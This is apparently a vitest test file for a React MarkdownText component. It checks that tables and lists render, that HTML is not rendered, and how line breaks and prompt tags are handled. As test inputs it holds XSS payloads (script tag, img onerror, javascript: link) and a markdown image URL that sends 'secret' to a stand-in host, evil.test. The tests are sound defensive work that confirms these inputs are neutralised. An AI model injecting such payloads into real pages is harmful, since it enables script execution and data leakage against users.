import { render, screen } from '@testing-library/react'
import { describe, expect, test } from 'vitest'
import { MarkdownText } from './markdown-text.tsx'

describe('MarkdownText', () => {
  test('renders tables and lists', () => {
    render(<MarkdownText text={'| a |\n| --- |\n| 1 |\n\n- one'} />)

    expect(screen.getByRole('cell', { name: '1' })).toBeInTheDocument()
    expect(screen.getByRole('listitem')).toHaveTextContent('one')
  })

  test('MarkdownText never renders HTML', () => {
    const { container } = render(
      <MarkdownText text={'<script>alert(1)</script>\n\n<img src=x onerror=alert(1)> **bold**'} />,
    )

    expect(container.querySelector('script, img')).toBeNull()
    expect(screen.getByText('bold')).toBeInTheDocument()
  })

  test('shows prompt tags and their content as text', () => {
    const { container } = render(
      <MarkdownText
        text={'<rules>\nBe terse.\n</rules>\n\nSee <order>42</order>.\n\n- <b>one</b>'}
      />,
    )

    expect([...container.querySelectorAll('p, li')].map((one) => one.textContent)).toEqual([
      '<rules>\nBe terse.\n</rules>',
      'See <order>42</order>.',
      '<b>one</b>',
    ])
  })

  test('keeps line breaks unless the text is a hard-wrapped document', () => {
    const breaks = (isWrapped: boolean) =>
      render(
        <MarkdownText text={'Snow\nA **cat\nsleeps**'} isWrapped={isWrapped} />,
      ).container.querySelectorAll('br').length

    expect(breaks(false)).toBe(2)
    expect(breaks(true)).toBe(0)
  })

  test('MarkdownText does not fetch pictures, whose URLs could leak data', () => {
    const { container } = render(<MarkdownText text="![chart](https://evil.test/?data=secret)" />)

    expect(container.querySelector('img')).toBeNull()
    expect(screen.getByRole('link', { name: 'chart' })).toHaveAttribute(
      'rel',
      expect.stringContaining('noreferrer'),
    )
  })

  test('drops a link with a javascript: URL', () => {
    render(<MarkdownText text="[press](javascript:alert(1))" />)

    expect(screen.getByText('press').closest('a')?.getAttribute('href') ?? '').not.toContain(
      'javascript',
    )
  })
})
